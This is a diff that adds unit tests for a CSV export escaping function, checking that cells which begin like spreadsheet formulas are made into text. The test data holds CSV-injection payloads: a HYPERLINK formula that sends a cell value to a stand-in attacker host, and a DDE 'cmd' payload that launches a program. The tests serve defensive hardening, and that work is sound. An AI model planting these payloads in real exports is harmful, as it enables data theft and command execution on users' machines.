@@ -1,5 +1,5 @@
 import i18n from 'i18next';
-import { toCsv } from '../../src/ui/csv';
+import { notFormula, toCsv } from '../../src/ui/csv';
 import {
   formatDate,
   formatDateTime,
@@ -129,6 +129,33 @@ describe('the exported file', () => {
         ],
       ),
     ).toBe('a,b\r\n"x,""y""",\'=1+1\r\n,2');
+  });
+
+  it.each([
+    '=HYPERLINK("http://evil.example?"&A1)',
+    '+84912345678',
+    '-2+3+cmd|" /C calc"!A0',
+    '@SUM(1+1)',
+    '\t=1',
+    '\r=1',
+    '\n=1',
+    '  =1',
+    '＝1＋1',
+    '－1',
+  ])('makes text of %j', (text) => {
+    expect(notFormula(text)).toBe(`'${text}`);
+    const [, row] = /^x\r\n(.*)$/s.exec(toCsv(['x'], [[text]]))!;
+    expect(row!.replace(/^"/, '').startsWith("'")).toBe(true);
+  });
+
+  it('lets no cell begin in the middle of another, whatever parts the cells', () => {
+    expect(toCsv(['a'], [['x;=1+1'], ['x\t=1+1'], ['x\n=1+1']])).toBe('a\r\n"x;=1+1"\r\n"x\t=1+1"\r\n"x\n=1+1"');
+  });
+
+  it('leaves numbers numbers, and texts that only have such a sign inside', () => {
+    expect(toCsv(['a'], [[-5], ['-5'], ['-1.234,5'], ['A = B'], ['hoa@example.vn'], ['2026-11-23']])).toBe(
+      'a\r\n-5\r\n-5\r\n"-1.234,5"\r\nA = B\r\nhoa@example.vn\r\n2026-11-23',
+    );
   });
 });
 
